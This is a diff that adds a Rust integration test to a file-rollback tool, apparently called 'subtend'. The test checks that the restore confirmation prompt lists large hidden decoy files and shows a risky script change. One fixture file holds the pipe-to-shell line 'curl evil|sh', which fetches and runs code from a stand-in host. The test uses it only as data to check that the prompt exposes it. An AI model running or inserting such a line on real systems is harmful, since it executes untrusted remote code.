@@ -1,6 +1,8 @@
 //! Files that a rollback or a branch restores, and writes whose results are not recorded because of a kill.
 
 use super::call::*;
+#[cfg(target_os = "linux")]
+use super::terminal::TerminalSession;
 
 #[cfg(unix)]
 use super::worktree;
@@ -70,6 +72,36 @@ fn x15_rollback_restores_files_with_the_messages() {
     assert_eq!(user.call(&["delete", &id, "--yes"]).code, Some(0));
     assert!(!saved.exists());
     assert_eq!(user.call(&["verify"]).code, Some(0));
+}
+
+/// Large files hide others in the question, or are hidden themselves. The control: a small file is shown.
+#[cfg(target_os = "linux")]
+#[test]
+fn x15_question_about_a_restore_names_hidden_files() {
+    let user = User::new();
+    let decoys = ["f0", "f1", "f2", "f3"];
+    decoys.iter().for_each(|name| user.file(name, &format!("{name}\n{}", "\u{1}".repeat(1 << 19))));
+    user.file("z.sh", "curl evil|sh\n");
+    let mut steps: Vec<Value> = decoys.iter().map(|name| write(name, "x")).collect();
+    steps.extend([write("new.sh", "n\n"), write("z.sh", "#!/bin/sh\n"), json!({"text": "no", "refuse": true})]);
+    let id = run(&user, &script(&user, &steps), 1);
+    let mut asked = TerminalSession::at_terminal(&user, &["rollback", &id, "--run", "1", "--files"]);
+    let question = asked.until("Restore? [y/N]");
+    asked.types("n\r");
+    assert_eq!(asked.wait_for_exit().0, Some(1));
+    assert!(
+        question.contains("+curl evil|sh\r\n4 files not shown above:\r\n  f0: too long to show: 1 bytes ("),
+        "{question}"
+    );
+    assert_eq!(question.matches("after\r\n").count(), 4, "{question}");
+    let command = format!("`subtend rollback {} --run 1 --files", &id[id.len() - 6..]);
+    assert!(question.contains(&command) && question.contains(" --print FILE` prints in full"), "{question}");
+    let printed = user.call(&["rollback", &id, "--run", "1", "--files", "--print", "f2"]);
+    assert_eq!(printed.code, Some(0));
+    assert!(printed.out.starts_with("f2\n<U+0001>") && printed.out.len() >= 3 + (8 << 19), "{}", printed.out.len());
+    assert_output(&user.call(&["rollback", &id, "--files", "--print", "new.sh"]), 0, "`new.sh` would be removed");
+    assert_eq!(content(&user, "z.sh").as_deref(), Some("#!/bin/sh\n"), "a file was restored");
+    assert!(!is_rolled_back(&user, &id));
 }
 
 /// A compaction completes a deletion that was interrupted before it erased checkpoints.
